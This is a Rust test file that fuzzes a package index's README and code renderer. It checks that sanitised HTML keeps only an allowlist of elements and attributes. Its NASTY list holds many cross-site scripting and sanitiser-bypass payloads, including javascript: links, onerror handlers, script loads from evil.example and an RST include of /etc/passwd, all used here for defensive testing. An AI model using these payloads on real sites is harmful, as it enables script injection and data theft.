//! Nothing that a stranger writes runs in a reader's browser, loads anything, or leaves its place.
//!
//! What was rendered is put into a page and read by the parser of the HTML standard. The lists here
//! are written anew and not taken from the code, so that a slip there is seen.

mod tree;

use std::fmt::Write as _;

use proptest::prelude::*;
use wheelhouse_ui::badge::{BadgeColour, badge};
use wheelhouse_ui::code::{Language, highlight, numbered};
use wheelhouse_ui::readme::{Limits, render};
use wheelhouse_ui::words;

use tree::{Node, Tree};

const TYPES: [Option<&str>; 6] = [
    Some("text/markdown"),
    Some("text/markdown; variant=CommonMark"),
    Some("text/x-rst"),
    Some("text/plain"),
    Some("text/html"),
    None,
];

/// Elements that run nothing, load nothing, send nothing and stand for nothing of ours.
const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "bdi",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Snippets that have broken sanitisers, or could.
const NASTY: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<script>",
    "</script>",
    "<style>*{background:url(https://evil.example/a)}</style>",
    "<style>",
    "</style>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/a.png srcset='https://evil.example/b 2x' alt='x\" onload=y'>",
    "![a](https://evil.example/a.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![\"><b onclick=x>](javascript:x)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](&#106;avascript:x)",
    "[a](vbscript:x)",
    "[a](data:text/html,x)",
    "[a](//evil.example)",
    "[a]( java\tscript:x )",
    "<javascript:alert(1)>",
    "[a]: javascript:x\n\n[a]\n",
    "<a href=\"java\nscript:x\">",
    "<a href='&#x6A;avascript:x'>a</a>",
    "<a href=\" javascript:x\">a</a>",
    "<a href=https://ok.example/ style=x onmouseover=y target=_top ping=https://evil.example>a</a>",
    "<a href=#main id=main name=find>",
    "<a id=readme-title>",
    "</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:x>",
    "</svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><xmp>",
    "</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p id=\"</p><script>x</script>\">",
    "<p title='\"><script>x</script>'>",
    "<iframe src=javascript:x srcdoc=\"<script>x</script>\"></iframe>",
    "<iframe>",
    "<object data=x>",
    "<embed src=x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<video poster=https://evil.example src=x autoplay>",
    "<audio src=x>",
    "<source srcset=x>",
    "<picture>",
    "<body background=https://evil.example onload=x>",
    "<table background=https://evil.example>",
    "<td background=x style='width:expression(x)'>",
    "<td>",
    "</td>",
    "<tr>",
    "</table>",
    "<table><tr><td></div></table>",
    "<caption>",
    "<form action=https://evil.example><input name=form_token><button>a</button></form>",
    "<select><option>a",
    "<textarea>",
    "</textarea>",
    "<title>",
    "<plaintext>",
    "<xmp>",
    "<template><script>x</script></template>",
    "<!-- a --><!-->--><!--",
    "-->",
    "--!>",
    "<![CDATA[<script>x</script>]]>",
    "<?php x ?>",
    "<!doctype html>",
    "<!",
    "<details open ontoggle=x>",
    "<marquee onstart=x>",
    "<isindex action=x>",
    "<frameset>",
    "<html><head>",
    "</body>",
    "</html>",
    "</div>",
    "</div></div></div></main></body>",
    "<div class=\"notice danger\">",
    "<div>",
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "<center>",
    "<h1>",
    "</h1>",
    "<li>",
    "<ul>",
    "<dd>",
    "<pre>",
    "</pre>",
    "<code>",
    "<summary>",
    "<x onclick=y>",
    "<a/href=https://a.example/onclick=x>",
    "<p/onclick=x/>",
    "< script>",
    "<\0script>",
    "<scr\0ipt>",
    "<p onclick",
    "<p title=\"",
    "<",
    ">",
    "\"",
    "'",
    "`",
    "&",
    "&lt;script&gt;",
    "&#0;",
    "&#x202e;",
    "&#60;script&#62;",
    "\u{202e}",
    "\u{2066}",
    "\u{200f}",
    "\0",
    "\u{feff}",
    "\u{fffd}",
    "\u{1b}[31m",
    "\r",
    "\u{2028}",
    "```html\n<script>\n```\n",
    "```\n",
    "~~~python\n'''\n",
    "    <script>\n",
    "> ",
    "- ",
    "1. ",
    "* * *\n",
    "# ",
    "\n",
    "\n\n",
    "| a | b |\n|---|:-:|\n| <script> | c |\n",
    "[^1]",
    "[^1]: <script>x</script>\n",
    "- [x] ",
    "https://evil.example/\"onx=",
    "http://a.example/<script>",
    "*",
    "**",
    "_",
    "~~",
    "<https://ok.example/\">",
    "&copy;",
    "\\",
    ".. raw:: html\n\n   <script>x</script>\n\n",
    ".. image:: javascript:x\n   :target: javascript:y\n   :alt: \"><b>\n\n",
    ".. image:: https://evil.example/a.svg\n\n",
    "`a <javascript:x>`_",
    "`a <https://ok.example/\"onx=y>`__",
    "|a|",
    ".. |a| image:: https://evil.example/b.png\n",
    ".. |a| replace:: <b>\n",
    ".. _a: javascript:x\n",
    "a_",
    "a__",
    ":raw:`<b>`",
    ".. include:: /etc/passwd\n\n",
    ".. code-block:: html\"><script>\n\n   <b>\n\n",
    "Title\n=====\n",
    "====\n",
    "::\n\n  <b>\n",
    "+---+\n| a |\n+---+\n",
    "=== ===\na   b\n=== ===\n",
    ".. [x\"] y\n",
    ".. _main:\n\n",
    "| ",
    ":a: ",
    ".. note:: ",
    "``",
];

#[test]
fn nasty_snippets_do_nothing_alone() {
    for snippet in NASTY {
        for content_type in TYPES {
            check(snippet, content_type);
            check(&format!("a\n\n{snippet}\n\nb"), content_type);
            check(&format!("<div>{snippet}</div>"), content_type);
            check(&format!("<table><tr><td>{snippet}"), content_type);
        }
    }
}

#[test]
fn nasty_snippets_do_nothing_in_pairs() {
    for first in NASTY {
        for second in NASTY {
            check(&format!("{first}{second}"), Some("text/markdown"));
        }
    }
}

#[test]
fn every_byte_in_every_encoding_is_text() {
    let bytes: Vec<u8> = (0..=u8::MAX)
        .flat_map(|byte| [byte, b'a', byte, b'<', byte])
        .collect();
    let wide: Vec<u16> = (0..=u16::MAX).step_by(7).collect();
    for text in [
        String::from_utf8_lossy(&bytes).into_owned(),
        bytes.iter().map(|byte| char::from(*byte)).collect(),
        String::from_utf16_lossy(&wide),
    ] {
        for content_type in TYPES {
            check(&text, content_type);
        }
        check_code(&text);
    }
}

#[test]
fn giants_are_rendered_in_time_that_grows_with_them() {
    for (what, text) in giants(80_000) {
        for content_type in [Some("text/markdown"), Some("text/x-rst"), None] {
            let html = render(&text, content_type, Limits::default());
            assert!(html.as_str().len() < 20 << 20, "{what}");
        }
    }
}

/// Beginnings, ends and whole things, to be repeated.
const REPEATED: &[&str] = &[
    "[",
    "*",
    "**",
    "_",
    "`",
    "``",
    "<",
    ">",
    "> ",
    "- ",
    "1. ",
    "![",
    "](",
    "[a](",
    "[a][",
    "[^",
    "~~",
    "&",
    "&#",
    "\\",
    "<a ",
    "<a b=\"",
    "<a>",
    "</a>",
    "<b>",
    "<div>",
    "<p>",
    "</p>",
    "<h1>",
    "<td>",
    "<li>",
    "<!--",
    "<!",
    "<?",
    "<![CDATA[",
    "<script>",
    "<svg>",
    "<a href=x>",
    "*a ",
    "*a*",
    "**a *b ",
    "a_ ",
    "a.a_.",
    "a__ ",
    "_`",
    "|a ",
    "|a| ",
    "`a ",
    ":a:`",
    "[a]_ ",
    "http://",
    "http",
    "https://a ",
    ".. a::\n",
    ".. _a:\n",
    ".. [1] a\n",
    "::\n\n a\n\n",
    "a\n=\n",
    "==== ====\n",
    "+--+\n",
    "| a\n",
    ":a: b\n",
    "-a  b\n",
    "a\n b\n",
    "# a\n",
    "a\n---\n",
    "|a|b|\n|-|-|\n",
    "[a]: b\n",
    "[^a]: b\n",
    "```\n",
    "- a\n\n",
    "  - a\n",
    "(",
    ")",
    "\n",
    " ",
    "\"",
    "'",
    "é",
    "*é ",
    "<é>",
    "- [ ] a\n",
    "\u{202e}",
];

/// Texts that have made other readers slow.
fn giants(bytes: usize) -> Vec<(&'static str, String)> {
    let many = |text: &str| text.repeat(bytes / text.len());
    let stairs = |mark: &str| {
        let mut text = String::new();
        for depth in 0.. {
            if text.len() > bytes {
                break;
            }
            let _ = writeln!(text, "{}{mark}", " ".repeat(depth * 2));
        }
        text
    };
    let mut attributes = String::from("<p");
    let mut references = format!("[a]: https://a.example/{}\n\n", "b".repeat(bytes / 2));
    let mut substitutions = format!(".. |a| replace:: {}\n\n", "b".repeat(bytes / 2));
    for number in 0..bytes / 10 {
        let _ = write!(attributes, " a{number}=1");
    }
    references.push_str(&"[a] ".repeat(bytes / 8));
    substitutions.push_str(&"|a| ".repeat(bytes / 8));
    let wide = format!(
        "{}\n{}\n{}",
        "|a".repeat(bytes / 8),
        "|-".repeat(bytes / 8),
        "|\n".repeat(bytes / 4)
    );
    let simple = format!("{}\n{}", "= ".repeat(bytes / 4), "a\n".repeat(bytes / 4));
    let mut list = vec![
        ("one tag with many attributes", attributes + ">"),
        ("references", references),
        ("substitutions", substitutions),
        ("a wide table", wide),
        ("a wide simple table", simple),
        ("stairs of bullets", stairs("- a")),
        ("stairs of numbers", stairs("1. a")),
        ("stairs of quotations", stairs("> a")),
        ("stairs of terms", stairs("a")),
        ("stairs of targets", stairs(".. |a| replace:: b")),
        ("stairs, then nothing", stairs("- a") + &"\n".repeat(bytes)),
        (
            "bullets, then nothing",
            "- ".repeat(90) + &"\n".repeat(bytes),
        ),
        ("a megabyte in a line", "a".repeat(bytes)),
        ("tabs", "\t".repeat(bytes)),
        (
            "a long grid",
            format!("+{}+\n{}", "-+".repeat(bytes / 4), many("| a |\n")),
        ),
        (
            "unlike formatting",
            (0..bytes / 16).fold(String::new(), |mut text, number| {
                let _ = write!(text, "<p><b id=a{number}>");
                text
            }),
        ),
        ("tables in tables", many("<table><tr><td>")),
        (
            "titles of their own",
            (0..bytes / 12).fold(String::new(), |mut text, number| {
                let _ = writeln!(text, "# a{number}\n");
                text
            }),
        ),
        (
            "python",
            format!("```python\n{}\n```", many("a(")[..60_000].to_owned()),
        ),
        (
            "html",
            format!("```html\n{}\n```", many("<a b=c\n")[..60_000].to_owned()),
        ),
    ];
    for text in REPEATED {
        list.push(("one thing over and over", many(text)));
    }
    list
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_mix_of_snippets_and_words_does_nothing(
        parts in prop::collection::vec(
            prop_oneof![
                4 => prop::sample::select(NASTY).prop_map(str::to_owned),
                1 => any::<String>(),
                1 => "[ \n<>/a-c&;=\"'`*_|:.-]{0,20}",
            ],
            1..12,
        ),
        content_type in prop::sample::select(&TYPES[..]),
    ) {
        check(&parts.concat(), content_type);
    }

    #[test]
    fn any_bytes_do_nothing(
        bytes in prop::collection::vec(any::<u8>(), 0..300),
        content_type in prop::sample::select(&TYPES[..]),
    ) {
        let text = String::from_utf8_lossy(&bytes);
        check(&text, content_type);
        check_code(&text);
    }

    #[test]
    fn any_type_and_any_limits_do_nothing(
        content_type in any::<String>(),
        bytes in 0_usize..200,
        nesting in 0_usize..8,
    ) {
        let limits = Limits { text_bytes: bytes, html_bytes: bytes * 3, nesting, coloured_bytes: bytes };
        let html = render("# a\n\n> - <div><b>*é*\n\n```py\nx\n```", Some(&content_type), limits);
        check_page(html.as_str(), "limits");
    }

    #[test]
    fn any_words_are_text_in_a_badge(label in any::<String>(), value in any::<String>()) {
        let svg = badge(&label, &value, BadgeColour::Red);
        let tree = Tree::of(&svg);
        for node in tree.all(0) {
            if let Node::Element(name, attributes) = &*tree.node(node) {
                let known = ["html", "head", "body", "svg", "title", "clipPath", "g", "rect", "text"];
                prop_assert!(known.contains(&&*name.local), "{svg}");
                prop_assert!(attributes.iter().all(|(name, _)| !name.starts_with("on")), "{svg}");
            }
        }
        prop_assert!(!svg.chars().any(|c| c.is_control() && c != '\n'), "{svg:?}");
    }

    #[test]
    fn any_name_of_a_file_has_words(name in "[a-zA-Z0-9._-]{0,40}", tags in "[a-z0-9_.]{1,12}-[a-z0-9_.]{1,12}-[a-z0-9_.]{1,20}") {
        use wheelhouse_standards::found::FileKind;
        for kind in [FileKind::Wheel, FileKind::Sdist, FileKind::Egg, FileKind::WindowsInstaller] {
            prop_assert!(!words::of_file(kind, &name).is_empty());
            let words = words::of_file(kind, &format!("a-1-{tags}.whl"));
            prop_assert!(!words.is_empty());
        }
    }
}

#[track_caller]
fn check(text: &str, content_type: Option<&str>) {
    let html = render(text, content_type, Limits::default());
    check_page(html.as_str(), text);
}

#[track_caller]
fn check_code(text: &str) {
    for name in ["a.py", "a.html", "a.md", "a.toml", "a.js", "a.sh", "a.txt"] {
        let language = Language::of_file_name(name);
        check_elements(
            &format!(
                "<pre><code>{}</code></pre>",
                highlight(text, language).as_str()
            ),
            text,
            Kind::Code,
        );
        check_elements(numbered(text, language).as_str(), text, Kind::Code);
    }
}

#[derive(Clone, Copy, PartialEq)]
enum Kind {
    Readme,
    Code,
}

#[track_caller]
fn check_page(html: &str, text: &str) {
    check_elements(html, text, Kind::Readme);
}

/// Puts HTML where a page has it, and looks at what a browser would make of it.
#[track_caller]
fn check_elements(html: &str, text: &str, kind: Kind) {
    let page = format!(
        "<!DOCTYPE html><html><head><title>t</title></head><body><main id=\"outer\"><div id=\"inner\">{html}</div>\
         <p id=\"after\"></p></main></body></html>"
    );
    let tree = Tree::of(&page);
    let place = |id: &str| {
        tree.with_id(id)
            .unwrap_or_else(|| panic!("no {id}: {text:?} became {html:?}"))
    };
    let (outer, inner, after) = (place("outer"), place("inner"), place("after"));
    // Nothing got out of its place, and nothing that follows got in.
    assert_eq!(
        tree.children(outer),
        [inner, after],
        "{text:?} became {html:?}"
    );
    assert_eq!(
        tree.children(after),
        [] as [usize; 0],
        "{text:?} became {html:?}"
    );
    let mut ids = std::collections::HashSet::new();
    for node in tree.all(inner) {
        if node == inner {
            continue;
        }
        match &*tree.node(node) {
            Node::Document => unreachable!("within a page"),
            Node::Comment => panic!("a comment: {text:?} became {html:?}"),
            Node::Text(shown) => assert!(!shown.contains(is_unseen), "{text:?} became {html:?}"),
            Node::Element(name, attributes) => {
                let is_html = &*name.ns == "http://www.w3.org/1999/xhtml";
                assert!(
                    is_html && ELEMENTS.contains(&&*name.local),
                    "<{}>: {text:?} became {html:?}",
                    name.local
                );
                for (attribute, value) in attributes {
                    let is_sound = is_sound(&name.local, attribute, value, kind);
                    assert!(
                        is_sound,
                        "<{} {attribute}={value:?}>: {text:?} became {html:?}",
                        name.local
                    );
                    assert!(!value.contains(is_unseen), "{text:?} became {html:?}");
                    if attribute == "id" {
                        assert!(
                            ids.insert(value.clone()),
                            "twice {value}: {text:?} became {html:?}"
                        );
                    }
                }
            }
        }
    }
}

fn is_sound(element: &str, attribute: &str, value: &str, kind: Kind) -> bool {
    let prefix = if kind == Kind::Code { "L" } else { "readme-" };
    match (element, attribute) {
        ("a", "href") => {
            let outside = ["http://", "https://", "mailto:"].iter().any(|scheme| {
                value
                    .get(..scheme.len())
                    .is_some_and(|start| start.eq_ignore_ascii_case(scheme))
            });
            outside
                || value
                    .strip_prefix('#')
                    .is_some_and(|name| name.starts_with(prefix))
        }
        ("a", "rel") => value == "nofollow noreferrer",
        (_, "id") => value.starts_with(prefix),
        (_, "title") => matches!(element, "a" | "abbr"),
        (_, "class") => {
            value.starts_with("hl-")
                || [
                    "admonition",
                    "cut",
                    "footnote",
                    "image",
                    "numbered",
                    "plain",
                    "scroll",
                ]
                .contains(&value)
        }
        (_, "align") => ["left", "center", "right"].contains(&value),
        (_, "dir") => ["ltr", "rtl", "auto"].contains(&value),
        ("pre" | "div", "tabindex") => value == "0",
        ("a", "tabindex") => value == "-1" && kind == Kind::Code,
        ("td" | "th", "colspan" | "rowspan") | ("ol", "start") | ("li", "value") => {
            value.parse::<u32>().is_ok()
        }
        ("th", "scope") => ["row", "col"].contains(&value),
        ("details", "open") | ("ol", "reversed") => value.is_empty(),
        _ => false,
    }
}

fn is_unseen(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t' | '\r'))
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}
